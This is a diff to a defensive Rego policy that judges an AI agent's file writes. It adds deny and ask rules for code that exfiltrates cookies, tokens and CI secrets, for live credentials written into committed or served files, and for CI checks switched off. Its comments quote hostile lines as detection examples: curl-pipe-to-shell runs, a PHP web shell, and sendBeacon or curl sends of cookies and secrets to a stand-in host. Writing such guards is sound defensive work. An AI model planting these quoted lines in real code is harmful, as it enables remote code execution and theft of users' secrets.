@@ -21,6 +21,7 @@ decision contains {"id": "path/credential-store", "decision": "deny", "reason": 
 	not new_folder(p)
 	not temp_working_copy(p)
 	not metadata_read(p)
+	not lib.handed_token_read(p)
 	reason := sprintf("%s would %s %s, a credential store", [lib.how(p), lib.verb(p), p.path])
 }
 
@@ -171,7 +172,7 @@ decision contains {"id": "path/editor-auto-approve", "decision": "deny", "reason
 }
 
 # @rule path/planted-exec deny
-# A file tool's write that plants, in code that runs when the project does, a run of downloaded or decoded code (OS.execute("sh", ["-c", "curl … | sh"]) in an editor plugin, system('curl … | sh') in an initializer, execute_process(COMMAND sh -c "wget -qO- … | bash") in CMakeLists.txt, exec(urlopen(…).read()) in a module) or a command built from a web request's input (system($_GET['c']): a web shell, MITRE ATT&CK T1505.003). Read line by line from the added text only; documents, Dockerfiles and CI files are not read (hookward-facts src/written.rs). In a shell script (.sh, .zsh, rc files) a download run is asked about instead (path/planted-exec-script): the script runs when somebody runs it, and is judged again then.
+# A file tool's write that plants, in code that runs when the project does, a run of downloaded or decoded code (OS.execute("sh", ["-c", "curl … | sh"]) in an editor plugin, system('curl … | sh') in an initializer, execute_process(COMMAND sh -c "wget -qO- … | bash") in CMakeLists.txt, exec(urlopen(…).read()) in a module) or a command built from a web request's input (system($_GET['c']): a web shell, MITRE ATT&CK T1505.003), or a send of the browser's cookies or stored tokens, the environment or a CI's secrets to another host (navigator.sendBeacon('https://x.example/c', document.cookie), fetch(URL, {body: localStorage.getItem('token')}), run: echo "${{ toJSON(secrets) }}" | curl -d @- URL; written.rs beacons, read in web pages and CI files too). Read line by line from the added text only; documents, Dockerfiles and CI files are not read (hookward-facts src/written.rs). In a shell script (.sh, .zsh, rc files) a download run is asked about instead (path/planted-exec-script): the script runs when somebody runs it, and is judged again then.
 decision contains {"id": "path/planted-exec", "decision": "deny", "reason": reason} if {
 	some f in object.get(input.facts, "written_exec", [])
 	planted_denied(f)
@@ -180,9 +181,36 @@ decision contains {"id": "path/planted-exec", "decision": "deny", "reason": reas
 
 planted_denied(f) if f.kind == "request_input"
 
+planted_denied(f) if f.kind == "beacon"
+
 planted_denied(f) if not f.script
 
-planted_what := {"fetched": "downloaded code", "decoded": "decoded code", "request_input": "what a web request sends as a command"}
+planted_what := {"fetched": "downloaded code", "decoded": "decoded code", "request_input": "what a web request sends as a command", "beacon": "a send of cookies, stored tokens, the environment or secrets to another host"}
+
+# @rule path/secret-in-code ask
+# A file tool's write that puts a live credential (a vendor token, cloud access key or private key by its shape: hookward-redact LIVE_KINDS; test-mode keys left out) into a project file that is not where secrets belong (env files, files named for secrets or credentials, key stores): source, settings and config files get committed, pushed and read by every tool that reads the project (OWASP ASVS 2.10.4 / CWE-798, hard-coded credentials). Env files and secret stores are not this (hookward-facts written.rs secrets_written).
+decision contains {"id": "path/secret-in-code", "decision": "ask", "reason": reason} if {
+	some f in object.get(input.facts, "written_secrets", [])
+	not f.served
+	reason := sprintf("the write would put a live credential (%s) into %s, a file that gets committed and read by other tools", [concat(", ", f.kinds), f.path])
+}
+
+# @rule path/secret-served deny
+# A file tool's write that puts a live credential into a file served to every visitor or shipped in the app bundle (a public, static, www or assets folder, a web page, an Expo/React Native app manifest's extra): anyone who loads the page or unpacks the app reads it (CWE-798, CWE-200).
+decision contains {"id": "path/secret-served", "decision": "deny", "reason": reason} if {
+	some f in object.get(input.facts, "written_secrets", [])
+	f.served
+	reason := sprintf("the write would put a live credential (%s) into %s, which is served or shipped to anyone", [concat(", ", f.kinds), f.path])
+}
+
+# @rule path/ci-check-off ask
+# A file tool's write that turns a CI check off: a test, lint, type check, audit or scan made to pass whatever it finds (run: pnpm test || true), a step allowed to fail (continue-on-error: true, GitLab allow_failure: true), a job or step switched off (if: false), or the pull_request_target trigger, which runs with the repository's secrets and write token (GitHub docs, "Security hardening for GitHub Actions"). The checks are what stand between a change and the main branch or a release (hookward-facts written.rs ci_checks_off).
+decision contains {"id": "path/ci-check-off", "decision": "ask", "reason": reason} if {
+	some f in object.get(input.facts, "ci_checks_off", [])
+	reason := sprintf("the write would turn a CI check off in %s (%s, line %d: %s)", [f.path, ci_off_words[f.what], f.line, f.evidence])
+}
+
+ci_off_words := {"ignored_failure": "a failure made a success", "disabled": "a job or step switched off", "pull_request_target": "pull_request_target runs code with the repository's secrets"}
 
 # @rule path/planted-exec-script ask
 # A file tool's write of a shell script (.sh, .zsh, an rc file) with a line that runs downloaded or decoded code (source <(curl …), curl … | sh): asked about, since the script runs when somebody runs it (and running it is judged again, hookward-facts src/scripts.rs).
